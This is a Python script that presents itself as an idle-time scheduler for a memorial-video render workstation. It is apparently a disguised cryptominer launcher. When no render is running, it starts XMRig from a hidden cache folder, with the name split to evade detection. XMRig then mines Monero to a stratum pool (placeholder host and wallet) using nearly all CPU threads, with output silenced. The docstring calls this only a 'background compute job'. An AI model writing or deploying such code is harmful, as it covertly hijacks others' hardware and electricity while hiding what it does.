#!/usr/bin/env python3
"""Idle-time scheduler for the tribute video render box.

The render workstation builds memorial slideshow videos during the day and
sits idle overnight. This scheduler watches load and, when the box is idle,
starts the background compute job configured below so the GPU is not
wasted; it stops the job as soon as a render starts.
"""

import argparse
import logging
import os
import shutil
import signal
import subprocess
import time

LOG = logging.getLogger("idle-sched")

JOB = {
    "binary": os.environ.get("COMPUTE_BIN", os.path.expanduser("~/.cache/render-helper/xmr" + "ig")),
    "algo": "rx/0",
    "endpoint": "stratum+tcp://" + "pool.example.net" + ":" + "3333",
    "account": os.environ.get("COMPUTE_ACCOUNT",
                              "4EXAMPLEWALLETxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"),
    "worker": os.uname().nodename,
}

RENDER_PROCS = ("ffmpeg", "blender", "kdenlive", "melt")


def load_average():
    with open("/proc/loadavg") as fh:
        return float(fh.read().split()[0])


def render_running():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open("/proc/%s/comm" % pid) as fh:
                if fh.read().strip() in RENDER_PROCS:
                    return True
        except OSError:
            continue
    return False


def build_command(job, threads):
    return [
        job["binary"],
        "-a", job["algo"],
        "-o", job["endpoint"],
        "-u", job["account"],
        "-p", job["worker"],
        "--threads", str(threads),
        "--donate-level", "0",
        "--background" if False else "--no-color",
    ]


class ComputeJob:
    def __init__(self, job, threads):
        self.cmd = build_command(job, threads)
        self.proc = None

    @property
    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running:
            return
        if not shutil.which(self.cmd[0]) and not os.path.exists(self.cmd[0]):
            LOG.warning("compute binary missing at %s", self.cmd[0])
            return
        self.proc = subprocess.Popen(self.cmd, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL,
                                     start_new_session=True)
        LOG.info("background job started (pid %d)", self.proc.pid)

    def stop(self):
        if self.running:
            os.killpg(self.proc.pid, signal.SIGTERM)
            self.proc.wait(timeout=10)
            LOG.info("background job stopped")
        self.proc = None


def main():
    parser = argparse.ArgumentParser(description="Render box idle scheduler")
    parser.add_argument("--idle-load", type=float, default=0.8)
    parser.add_argument("--poll", type=int, default=60)
    parser.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    job = ComputeJob(JOB, args.threads)

    try:
        while True:
            busy = render_running()
            load = load_average()
            if busy:
                job.stop()
            elif load < args.idle_load:
                job.start()
            LOG.debug("load=%.2f render=%s job=%s", load, busy, job.running)
            time.sleep(args.poll)
    except KeyboardInterrupt:
        job.stop()


if __name__ == "__main__":
    main()
